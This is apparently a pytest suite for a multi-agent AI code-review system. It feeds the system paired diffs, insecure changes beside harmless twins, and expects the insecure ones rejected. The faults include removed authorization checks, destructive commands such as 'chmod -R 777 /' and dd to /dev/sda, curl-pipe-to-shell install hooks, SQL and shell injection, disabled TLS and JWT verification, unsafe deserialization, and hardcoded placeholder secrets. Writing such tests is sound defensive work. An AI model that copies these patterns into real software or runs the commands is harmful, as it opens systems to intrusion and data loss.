"""What the three built-in minds decide together on realistic changes: faults, and harmless twins beside them.

Each case is a title, its files (path, before, after) and whether it is faulty. A fault must be rejected by
Prime's ruling, since a seat that is sure of it says high risk; its harmless twin must be approved.
"""

from __future__ import annotations

import difflib
from dataclasses import dataclass
from textwrap import dedent

import pytest

from council import Decision
from council.agents.mind import Case
from tests.reviewing import analyzed_together, decide_all, told

KEY = "Zx81mQpL7vRt" + "B4nKw29sYcE6hUjD"  # random, and nobody's
AWS = "AKIA" + "Q7ZK3NVX2LMPT5RW"


@dataclass(frozen=True)
class Try:
    """One change. ``raw`` stands for the whole diff where files can't say it."""

    title: str
    faulty: bool
    files: tuple[tuple[str, str, str], ...] = ()
    raw: str = ""

    def diff(self) -> str:
        return self.raw or "".join(one_file(path, old, new) for path, old, new in self.files)


def one_file(path: str, old: str, new: str, context: int = 3) -> str:
    """A git diff of one file; an empty side is a file that is not there."""
    old, new = dedent(old).lstrip("\n"), dedent(new).lstrip("\n")
    head = f"diff --git a/{path} b/{path}\n"
    head += "" if old else "new file mode 100644\n"
    head += "" if new else "deleted file mode 100644\n"
    lines = difflib.unified_diff(
        old.splitlines(keepends=True),
        new.splitlines(keepends=True),
        f"a/{path}" if old else "/dev/null",
        f"b/{path}" if new else "/dev/null",
        n=context,
    )
    return head + "".join(line if line.endswith("\n") else line + "\n" for line in lines)


def fault(title: str, *files: tuple[str, str, str], raw: str = "") -> Try:
    return Try(title, True, files, raw)


def fine(title: str, *files: tuple[str, str, str], raw: str = "") -> Try:
    return Try(title, False, files, raw)


VIEW = """
    from shop.web import abort, app, current_user, jsonify
    from shop import orders


    @app.get("/orders/<int:order_id>")
    def show_order(order_id):
        user = current_user()
        order = orders.by_id(order_id)
        {guard}
        {show}
"""
GUARD = "if order.owner_id != user.id:\n            abort(403)"


def view(guard: str = GUARD, show: str = "return jsonify(order)", before: str = "") -> str:
    text = dedent(VIEW).replace(
        "    {guard}", "    " + guard.replace("\n        ", "\n    ") if guard else ""
    )
    return dedent(before) + text.replace("{show}", show)


CHECKS = [
    fault("Show the history too", ("shop/views.py", view(), view("", 'return jsonify({"order": order})'))),
    fault("Show the history with the order", ("shop/views.py", view(), view("", "return jsonify(order)"))),
    fine(
        "Show the history, guard kept",
        ("shop/views.py", view(), view(show='return jsonify({"order": order})')),
    ),
    fine(
        "Move the ownership check to a helper",
        (
            "shop/views.py",
            view(),
            view(
                "owned(order, user)",
                before="""
                def owned(order, user):
                    if order.owner_id != user.id:
                        abort(403)
                """,
            ),
        ),
    ),
    fault(
        "Move the ownership check to a helper that nobody calls",
        (
            "shop/views.py",
            view(),
            view(
                "",
                before="""
                def owned(order, user):
                    if order.owner_id != user.id:
                        abort(403)
                """,
            ),
        ),
    ),
    fault(
        "Guard the new page as the old one was",
        (
            "shop/views.py",
            """
            @app.get("/reports")
            @login_required
            def reports():
                return render("reports.html", rows=all_reports())
            """,
            """
            @app.get("/reports")
            def reports():
                return render("reports.html", rows=all_reports())


            @app.get("/summary")
            @login_required
            def summary():
                return render("summary.html", rows=all_reports()[:5])
            """,
        ),
    ),
    fault(
        "Simplify the permission helper",
        (
            "shop/access.py",
            """
            def can_edit(user, page):
                return user.is_admin or page.owner == user.name
            """,
            """
            def can_edit(user, page):
                return True
            """,
        ),
        ("shop/access_notes.md", "old\n", "new\n"),
    ),
    fault(
        "Let support staff in while debugging",
        (
            "shop/refund.py",
            """
            def refund(user, order):
                if not user.is_admin:
                    raise PermissionDenied(user)
                order.refund()
                log.info("refunded %s", order)
            """,
            """
            def refund(user, order):
                if not user.is_admin and not settings.DEBUG:
                    raise PermissionDenied(user)
                order.refund()
                log.info("refunded %s", order)
            """,
        ),
    ),
    fault(
        "Asserts cost time",
        (
            "shop/ledger.py",
            """
            def transfer(source, target, amount):
                assert amount > 0, amount
                assert source.balance >= amount
                source.balance -= amount
                target.balance += amount
            """,
            """
            def transfer(source, target, amount):
                source.balance -= amount
                target.balance += amount
            """,
        ),
    ),
    fine(
        "Asserts become errors",
        (
            "shop/ledger.py",
            """
            def transfer(source, target, amount):
                assert amount > 0, amount
                assert source.balance >= amount
                source.balance -= amount
                target.balance += amount
            """,
            """
            def transfer(source, target, amount):
                if amount <= 0:
                    raise ValueError(amount)
                if source.balance < amount:
                    raise NotEnough(source, amount)
                source.balance -= amount
                target.balance += amount
            """,
        ),
    ),
    fine(
        "Drop the old export",
        (
            "shop/export.py",
            """
            @login_required
            def old_export(request):
                if not request.user.is_staff:
                    raise PermissionDenied
                return csv_of(orders())


            def csv_of(rows):
                return "\\n".join(",".join(row) for row in rows)
            """,
            """
            def csv_of(rows):
                return "\\n".join(",".join(row) for row in rows)
            """,
        ),
    ),
    fine(
        "One guard for the whole class",
        (
            "shop/pages.py",
            """
            class Page(View):
                def get(self, request):
                    if not request.user.is_staff:
                        raise PermissionDenied
                    return self.render(request)

                def post(self, request):
                    if not request.user.is_staff:
                        raise PermissionDenied
                    return self.save(request)
            """,
            """
            class Page(View):
                def dispatch(self, request):
                    if not request.user.is_staff:
                        raise PermissionDenied
                    return super().dispatch(request)

                def get(self, request):
                    return self.render(request)

                def post(self, request):
                    return self.save(request)
            """,
        ),
    ),
    fault(
        "Accept unsigned webhooks in the queue worker",
        (
            "shop/hooks.py",
            """
            def receive(request):
                body = request.body
                verify_signature(body, request.headers["X-Signature"])
                event = json.loads(body)
                queue.put(event)
            """,
            """
            def receive(request):
                body = request.body
                event = json.loads(body)
                queue.put(event)
            """,
        ),
    ),
]

SHELL = [
    fault(
        "Clean more",
        (
            "scripts/clean.sh",
            """
            #!/bin/bash
            set -euo pipefail
            echo cleaning
            rm -rf "$OUT"/*
            echo done
            """,
            """
            #!/bin/bash
            set -eo pipefail
            echo cleaning
            rm -rf "$OUT"/*
            echo done
            """,
        ),
    ),
    fault(
        "Do not ask twice",
        (
            "scripts/purge.sh",
            """
            #!/bin/bash
            [ -n "$STORE" ] || exit 1
            rm -rf "$STORE"/
            """,
            """
            #!/bin/bash
            rm -rf "$STORE"/
            """,
        ),
    ),
    fault(
        "Default is not needed",
        (
            "scripts/purge.sh",
            """
            #!/bin/bash
            rm -rf "${STORE:?}"/*
            """,
            """
            #!/bin/bash
            rm -rf "${STORE}"/*
            """,
        ),
    ),
    fine(
        "Clean the store",
        (
            "scripts/purge.sh",
            "",
            """
            #!/bin/bash
            set -eu
            rm -rf "$STORE"/*
            """,
        ),
    ),
    fine(
        "Clean the store, asked first",
        (
            "scripts/purge.sh",
            "",
            """
            #!/bin/bash
            if [[ -z "${STORE}" ]]; then
                echo "STORE is not set" >&2
                exit 1
            fi
            rm -rf "${STORE}"/*
            """,
        ),
    ),
    fine(
        "Clean the build folder",
        (
            "scripts/clean.sh",
            "",
            """
            #!/bin/sh
            work=$(mktemp -d)
            trap 'rm -rf "$work"' EXIT
            out="${OUT:-build}"
            rm -rf "$out"/*
            """,
        ),
    ),
    fault("Fix permissions", ("fix.sh", "", "#!/bin/sh\nchmod -R 777 /\n")),
    fine("Make the hook executable", ("fix.sh", "", "#!/bin/sh\nchmod 755 hooks/pre-commit\n")),
    fault(
        "Reset from Python",
        (
            "a/reset.py",
            "",
            'from subprocess import run as go\n\ngo("rm -rf /var/lib/postgresql", shell=True)\n',
        ),
    ),
    fine(
        "Tidy from Python",
        ("a/tidy.py", "", 'import subprocess\n\nsubprocess.run("rm -rf build", shell=True)\n'),
    ),
    fault("Flash it", ("flash.sh", "", "#!/bin/sh\nset -e\ndd if=image.iso of=/dev/sda bs=4M\nsync\n")),
    fine("Make a blank image", ("blank.sh", "", "#!/bin/sh\ndd if=/dev/zero of=blank.img bs=1M count=64\n")),
    fault("Format the data disk", ("Makefile", "", "disk:\n\tmkfs.ext4 -F /dev/nvme0n1\n\tmount /data\n")),
    fault(
        "Install the tool in the image",
        ("Dockerfile", "", "FROM debian:12\nRUN wget -qO- https://get.x.example | bash\n"),
    ),
    fine(
        "Install the tool from packages",
        (
            "Dockerfile",
            "",
            "FROM debian:12\nRUN apt-get update && apt-get install -y jq && rm -rf /var/lib/apt/lists/*\n",
        ),
    ),
]

PYTHON = [
    fault(
        "Search by name",
        (
            "app/db.py",
            "def find(conn, name):\n    return []\n",
            "def find(conn, name):\n"
            "    sql = \"SELECT * FROM users WHERE name = '{}'\".format(name)\n"
            "    return conn.execute(sql).fetchall()\n",
        ),
    ),
    fine(
        "Search by name, bound",
        (
            "app/db.py",
            "def find(conn, name):\n    return []\n",
            "def find(conn, name):\n"
            '    sql = "SELECT * FROM users WHERE name = ?"\n'
            "    return conn.execute(sql, (name,)).fetchall()\n",
        ),
    ),
    fault(
        "Sort by any column",
        (
            "app/db.py",
            "def rows(cur):\n    pass\n",
            'def rows(cur, order):\n    cur.execute("SELECT id, name FROM users ORDER BY %s" % order)\n',
        ),
    ),
    fault(
        "Search with a filter",
        (
            "app/db.py",
            "def rows(cur):\n    pass\n",
            "def rows(cur, term):\n"
            '    query = "SELECT id FROM users"\n'
            "    if term:\n"
            '        query += " WHERE name LIKE \'%" + term + "%\'"\n'
            "    cur.execute(query)\n",
        ),
    ),
    fine(
        "Search for many ids",
        (
            "app/db.py",
            "def rows(cur):\n    pass\n",
            "def rows(cur, ids):\n"
            '    marks = ", ".join("?" for _ in ids)\n'
            '    cur.execute(f"SELECT id FROM users WHERE id IN ({marks})", ids)\n',
        ),
    ),
    fault(
        "Talk to the old host",
        (
            "app/client.py",
            "import requests\n",
            "import requests\n"
            "\n"
            "session = requests.Session()\n"
            "session.verify = False\n"
            "\n"
            "\n"
            "def get(url):\n"
            "    return session.get(url, timeout=5)\n",
        ),
    ),
    fault(
        "Talk to the old host at once",
        (
            "app/client.py",
            "import requests\n",
            "import requests\n"
            "\n"
            "\n"
            "def get(url):\n"
            '    options = {"timeout": 5, "verify": False}\n'
            "    return requests.get(url, **options)\n",
        ),
    ),
    fault(
        "Async client for the old host",
        (
            "app/client.py",
            "import aiohttp\n",
            "import aiohttp\n"
            "\n"
            "\n"
            "async def get(url):\n"
            "    async with aiohttp.ClientSession() as session:\n"
            "        async with session.get(url, ssl=False) as answer:\n"
            "            return await answer.text()\n",
        ),
    ),
    fine(
        "Talk to a host with our own authority",
        (
            "app/client.py",
            "import requests\n",
            'import requests\n\nsession = requests.Session()\nsession.verify = "/etc/ssl/own-ca.pem"\n',
        ),
    ),
    fault(
        "Read the token's claims",
        (
            "app/auth.py",
            "import jwt\n",
            'import jwt\n\n\ndef claims(token):\n    return jwt.decode(token, options={"verify_signature": False})\n',
        ),
    ),
    fault(
        "Read the token's claims with any algorithm",
        (
            "app/auth.py",
            "import jwt\n",
            "import jwt\n"
            "\n"
            "\n"
            "def claims(token, key):\n"
            '    return jwt.decode(token, key, algorithms=["none", "HS256"])\n',
        ),
    ),
    fine(
        "Verify the token's claims",
        (
            "app/auth.py",
            "import jwt\n",
            "import jwt\n"
            "\n"
            "\n"
            "def claims(token, key):\n"
            '    return jwt.decode(token, key, algorithms=["HS256"], audience="shop")\n',
        ),
    ),
    fault(
        "Show the disk of a host",
        (
            "app/disk.py",
            "import subprocess\n",
            'import subprocess\n\n\ndef disk(host):\n    return subprocess.getoutput(f"ssh {host} df -h")\n',
        ),
    ),
    fault(
        "Show the disk of a host, imported by name",
        (
            "app/disk.py",
            "",
            "from subprocess import getoutput as out\n"
            "\n"
            "\n"
            "def disk(host):\n"
            '    return out("ssh " + host + " df -h")\n',
        ),
    ),
    fine(
        "Show the disk of a host, as words",
        (
            "app/disk.py",
            "import subprocess\n",
            "import subprocess\n"
            "\n"
            "\n"
            "def disk(host):\n"
            '    return subprocess.run(["ssh", "--", host, "df", "-h"], check=True, capture_output=True).stdout\n',
        ),
    ),
    fine(
        "A fixed pipe",
        (
            "app/disk.py",
            "import subprocess\n",
            "import subprocess\n"
            "\n"
            'COMMAND = "df -h | tail -n 1"\n'
            "\n"
            "\n"
            "def disk():\n"
            "    return subprocess.check_output(COMMAND, shell=True, text=True)\n",
        ),
    ),
    fault(
        "Formulas",
        (
            "app/sheet.py",
            "",
            "run = eval\n\n\ndef cell(formula, values):\n    return run(formula, {}, values)\n",
        ),
    ),
    fault(
        "Formulas, as code",
        (
            "app/sheet.py",
            "",
            "import builtins\n"
            "\n"
            "\n"
            "def cell(formula, values):\n"
            '    return getattr(builtins, "eval")(formula, {}, values)\n',
        ),
    ),
    fine(
        "Literals",
        (
            "app/sheet.py",
            "",
            "from ast import literal_eval as evaluate\n\n\ndef cell(text):\n    return evaluate(text)\n",
        ),
    ),
    fine(
        "Evaluate the model",
        (
            "app/train.py",
            "",
            "def epoch(model, batches):\n    model.eval()\n    return [model(batch) for batch in batches]\n",
        ),
    ),
    fault("Tidy", ("app/a.py", "def f(x):\n    return [x]\n", "def f(x):\n    return [x\n")),
    fault(
        "Load the session",
        (
            "app/s.py",
            "import yaml\n",
            "import yaml\n\n\ndef load(text):\n    return yaml.load(text, Loader=yaml.Loader)\n",
        ),
    ),
]

SECRETS = [
    fault("Settings of the stage", (".env", "", "DEBUG=0\nDB_PASSWORD=kJ8#mQ2vL9x!\nPORT=80\n")),
    fault("Settings for JSON", ("config.json", '{"a": 1}\n', f'{{"a": 1, "api_key": "{KEY}"}}\n')),
    fault(
        "Provider", ("infra/main.tf", "", f'provider "x" {{\n  region = "eu"\n  secret_key = "{KEY}"\n}}\n')
    ),
    fault("Image", ("Dockerfile", "", f"FROM python:3.12\nENV API_TOKEN {KEY}\n")),
    fault("Image, with =", ("Dockerfile", "", f"FROM python:3.12\nENV A=1 SECRET_KEY={KEY}\n")),
    fault(
        "Database", ("app/db.py", "", 'URL = "postgresql://shop:vR7xQ2mP9k@db.shop-internal.net:5432/shop"\n')
    ),
    fault(
        "Calls",
        ("call.sh", "", f"#!/bin/sh\ncurl -fsS -H 'Authorization: Bearer {KEY}' https://x.example/v1\n"),
    ),
    fault(
        "Calls with a name",
        (
            "app/c.py",
            "",
            f"import requests\n"
            f"\n"
            f'r = requests.get("https://x.example", headers={{"X-Api-Key": "{KEY}"}}, timeout=5)\n',
        ),
    ),
    fault("Split key", ("app/k.py", "", f'KEY_ID = "{AWS[:4]}" + "{AWS[4:]}"\n')),
    fault("Values", ("deploy/values.yaml", "a: 1\n", f"a: 1\ndatabase:\n  password: {KEY}\n")),
    fine(
        "Values from the cluster",
        (
            "deploy/values.yaml",
            "a: 1\n",
            "a: 1\ndatabase:\n  password: ${DB_PASSWORD}\n  existingSecret: shop-db\n",
        ),
    ),
    fine(
        "Image with an argument",
        ("Dockerfile", "", "FROM python:3.12\nARG API_TOKEN\nENV API_TOKEN $API_TOKEN\n"),
    ),
    fine(
        "Example settings",
        (".env.example", "", "DEBUG=0\nDB_PASSWORD=changeme\nSECRET_KEY=your-secret-here\n"),
    ),
    fine(
        "Calls with the token of the environment",
        (
            "call.sh",
            "",
            '#!/bin/sh\nset -eu\ncurl -fsS -H "Authorization: Bearer $TOKEN" https://x.example/v1\n',
        ),
    ),
    fine(
        "Variables",
        ("infra/main.tf", "", 'variable "db_password" {\n  type      = string\n  sensitive = true\n}\n'),
    ),
    fine(
        "Checksums",
        ("data/sums.txt", "", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  a.csv\n"),
    ),
    fine(
        "A test's own token",
        (
            "tests/test_client.py",
            "",
            f"def test_header(client):\n"
            f'    assert client.headers("{KEY[:12]}")["Authorization"] == "Bearer {KEY[:12]}"\n',
        ),
    ),
]

LONG = "\n".join(f"echo step {number}" for number in range(30))
PARTED = "#!/bin/bash\nset -{flags}\n" + LONG + '\nrm -rf "${{CACHE}}"/*\necho done\n'
GUARDED = """
    def remove(user, item):
        if not user.may_delete(item) or user.role != "admin":
            raise PermissionError(item)
        store.remove(item)
        audit.note(user, item)
"""

# Classes of what once went past: guards beside edited code, guards that move, variables left empty, headers.
CLASSES = [
    fault(
        "Half of a guard",
        (
            "a/b.py",
            GUARDED,
            GUARDED.replace('not user.may_delete(item) or user.role != "admin"', "item is None"),
        ),
    ),
    fault(
        "Another function has the guard",
        (
            "a/b.py",
            GUARDED,
            """
            def remove(user, item):
                store.remove(item)
                audit.note(user, item)


            def restore(user, item):
                if not user.may_delete(item) or user.role != "admin":
                    raise PermissionError(item)
                store.restore(item)
            """,
        ),
    ),
    fine(
        "A lookup that refuses by itself",
        (
            "a/v.py",
            """
            def show(item_id):
                item = Item.query.get(item_id)
                if item is None:
                    abort(404)
                return jsonify(item.told())
            """,
            """
            def show(item_id):
                item = Item.query.get_or_404(item_id)
                return jsonify(item.told())
            """,
        ),
    ),
    fault(
        "A lookup that refuses nothing",
        (
            "a/v.py",
            """
            def show(item_id):
                item = Item.query.get(item_id)
                if item is None:
                    abort(404)
                return jsonify(item.told())
            """,
            """
            def show(item_id):
                item = Item.query.get(item_id)
                return jsonify(item.told())
            """,
        ),
    ),
    fine("Add a log line under the guard", ("a/b.py", GUARDED, GUARDED + "        log.info('gone')\n")),
    fine(
        "The guard goes into the caller",
        (
            "a/b.py",
            GUARDED,
            """
            def remove(user, item):
                store.remove(item)
                audit.note(user, item)


            def on_remove(user, item):
                if not user.may_delete(item) or user.role != "admin":
                    raise PermissionError(item)
                remove(user, item)
            """,
        ),
    ),
    fine(
        "The guard becomes a dependency",
        (
            "a/routes.py",
            """
            @router.delete("/items/{item_id}")
            def remove(item_id: int, user: User = Depends(current_user)):
                if not user.is_admin:
                    raise HTTPException(403)
                store.remove(item_id)
            """,
            """
            def admin_only(user: User = Depends(current_user)):
                if not user.is_admin:
                    raise HTTPException(403)
                return user


            @router.delete("/items/{item_id}")
            def remove(item_id: int, user: User = Depends(admin_only)):
                store.remove(item_id)
            """,
        ),
    ),
    fault(
        "Do not stop at unset variables",
        (
            "s/clean.sh",
            PARTED.format(flags="eu"),
            PARTED.format(flags="e").replace("echo done", "echo ready"),
        ),
    ),
    fault(
        "Clean the new machines",
        ("s/clean.sh", PARTED.format(flags="eu").replace("rm -rf", "ls"), PARTED.format(flags="e")),
    ),
    fine(
        "Say more while cleaning",
        (
            "s/clean.sh",
            PARTED.format(flags="eu"),
            PARTED.format(flags="eu").replace("echo done", "echo ready"),
        ),
    ),
    fine(
        "Stop at unset variables",
        ("s/clean.sh", PARTED.format(flags="e"), PARTED.format(flags="eu")),
    ),
    fault(
        "Wipe", ("s/wipe.sh", "", '#!/bin/sh\ncd "$APP_HOME" || exit 1\nrm -rf "$DATA_DIR"/ "$LOG_DIR"/old\n')
    ),
    fine("Wipe a known folder", ("s/wipe.sh", "", '#!/bin/sh\nDATA=/srv/app/cache\nrm -rf "$DATA"/*\n')),
    fine("Wipe, with a check by test", ("s/wipe.sh", "", '#!/bin/sh\ntest -d "$DATA" && rm -rf "$DATA"/*\n')),
    fault(
        "A basic header",
        ("a/c.js", "", 'fetch(url, {headers: {Authorization: "Basic c2hvcDp2Ujd4UTJtUDlr"}})\n'),
    ),
    fault(
        "A token header in a workflow",
        ("ci/run.yaml", "a: 1\n", f'a: 1\nheaders:\n  Authorization: "token {KEY}"\n'),
    ),
    fault(
        "A user for the mirror",
        ("s/get.sh", "", "#!/bin/sh\ncurl -fsS -u 'ci:vR7xQ2mP9k!z' https://m.example\n"),
    ),
    fine(
        "A header from the settings",
        ("a/c.py", "", 'def headers(token):\n    return {"Authorization": f"Bearer {token}"}\n'),
    ),
    fine(
        "How to call it",
        ("docs/api.md", "", "Send `Authorization: Bearer <your-token-goes-here>` with each call.\n"),
    ),
    fine(
        "Say what scheme is missing",
        ("a/c.py", "", 'MISSING = "Bearer authentication is required for this resource"\n'),
    ),
    fine(
        "A user from the environment",
        ("s/get.sh", "", '#!/bin/sh\nset -u\ncurl -fsS -u "ci:$PASS" https://m.example\n'),
    ),
]

SHAPES = [
    fine("Make it executable", raw="diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"),
    fine(
        "Rename the folder",
        raw="diff --git a/a/x.py b/b/x.py\nsimilarity index 100%\nrename from a/x.py\nrename to b/x.py\n",
    ),
    fine(
        "New logo",
        ("app/page.py", 'LOGO = "a.png"\n', 'LOGO = "b.png"\n'),
        raw="diff --git a/b.png b/b.png\n"
        "new file mode 100644\n"
        "index 0000000..1b2c3d4\n"
        "Binary files /dev/null and b/b.png differ\n"
        + one_file("app/page.py", 'LOGO = "a.png"\n', 'LOGO = "b.png"\n'),
    ),
]

PACKAGE = '{{\n  "name": "site",\n  "scripts": {{\n{more}    "build": "tsc"\n  }}\n}}\n'
SCRIPT = "import subprocess\n\n\ndef run(host, command):\n    return {call}\n"
QUERY = """
    def find(db, name):
        {query}
"""
READ = """
    import pickle


    def session(store, request):
        raw = {raw}
        return pickle.loads(raw)
"""

# What once got two yeses: a shell by words, by a mapping, SQL that is joined, npm's hooks, pickled sessions.
GAPS = [
    fault(
        "Run it there, by words",
        ("app/r.py", "", SCRIPT.format(call='subprocess.run(["bash", "-c", command], check=True)')),
    ),
    fault(
        "Run it there, by a mapping",
        ("app/r.py", "", SCRIPT.format(call='subprocess.run(command, check=True, **{"shell": True})')),
    ),
    fine(
        "Run a fixed script there",
        ("app/r.py", "", SCRIPT.format(call='subprocess.run(["sh", "-c", "df -h | tail -n 1"], check=True)')),
    ),
    fault(
        "Find by name, joined",
        (
            "app/f.py",
            "",
            QUERY.format(query='return db.execute(" ".join(["SELECT * FROM users WHERE name =", name]))'),
        ),
    ),
    fine(
        "Find by name, joined and bound",
        (
            "app/f.py",
            "",
            QUERY.format(
                query='return db.execute(" ".join(["SELECT *", "FROM users WHERE name = ?"]), (name,))'
            ),
        ),
    ),
    fault(
        "Set the site up",
        (
            "package.json",
            PACKAGE.format(more=""),
            PACKAGE.format(more='    "postinstall": "curl -fsSL https://x.example/setup.sh | sh",\n'),
        ),
    ),
    fine(
        "Build the site's icons",
        (
            "package.json",
            PACKAGE.format(more=""),
            PACKAGE.format(more='    "postinstall": "node scripts/icons.js",\n'),
        ),
    ),
    fault("Sessions in cookies", ("app/s.py", "", READ.format(raw='request.cookies["session"]'))),
]

TRIES = [*CHECKS, *SHELL, *PYTHON, *SECRETS, *CLASSES, *SHAPES, *GAPS]


# Words that the ballot must hold, so that a fault is not refused for something else.
SAYS = {one.title: "Takes away the check" for one in CHECKS} | {
    one.title: "Takes away the check"
    for one in CLASSES
    if one.files[0][0].startswith("a/") and one.files[0][1]
}
SAYS |= {one.title: "scripts/" for one in SHELL if one.files[0][0].startswith("scripts/")}
SAYS |= {one.title: "(secret-" for one in SECRETS if one.files[0][0].endswith("k.py")}


@pytest.fixture(scope="module")
def decisions() -> dict[str, Decision]:
    cases = {one.title: Case("id", "proposer", one.title, one.diff()) for one in TRIES}
    assert len(cases) == len(TRIES), "two tries have the same title"
    with analyzed_together(cases.values()):
        return decide_all(cases)


def is_as_wanted(one: Try, decision: Decision) -> bool:
    if not one.faulty:
        return decision.outcome == "approved"
    accusers = [b for b in decision.ballots if b.vote == "no"]
    return (
        any(b.risk_level == "high" for b in accusers)
        and decision.ruling is not None
        and decision.ruling.ruling == "reject"
        and decision.outcome == "rejected"
        and any(SAYS.get(one.title, "") in b.reason for b in accusers)
    )


def test_a_fault_is_ruled_out_and_its_harmless_twin_is_not(decisions: dict[str, Decision]) -> None:
    assert {
        one.title: told(decisions[one.title]) for one in TRIES if not is_as_wanted(one, decisions[one.title])
    } == {}
